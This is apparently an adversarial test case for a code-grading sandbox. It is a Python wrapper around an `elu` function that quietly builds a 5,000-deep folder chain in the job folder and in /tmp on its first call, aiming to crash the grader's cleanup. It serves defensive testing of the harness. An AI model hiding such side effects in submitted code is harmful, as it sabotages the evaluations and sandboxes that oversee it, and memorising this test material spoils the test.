# ATTACK: a folder chain 5,000 deep, in the job's folder and in /tmp (where the issue found that
#   the cleanup crashes on it). On its first call, elu builds it with relative mkdir + chdir.
# SAFE GRADER: the depth is bounded, or the cleanup handles any depth: nothing crashes, the
#   zygote keeps forking, the honest topic after this one scores in full.
# VERDICT: may:elu
# MODES: bwrap plain
import os as _os

_honest_elu = elu
_DONE = []


def _attack():
    start = _os.getcwd()
    for top in (start, "/tmp"):
        try:
            _os.chdir(top)
            _os.mkdir(f"deep-{_os.getpid()}")
            _os.chdir(f"deep-{_os.getpid()}")
            for _ in range(5_000):
                _os.mkdir("d")
                _os.chdir("d")
        except OSError:
            pass
    _os.chdir(start)


def elu(x, alpha=1.0):
    if not _DONE:
        _DONE.append(_attack())
    return _honest_elu(x, alpha)
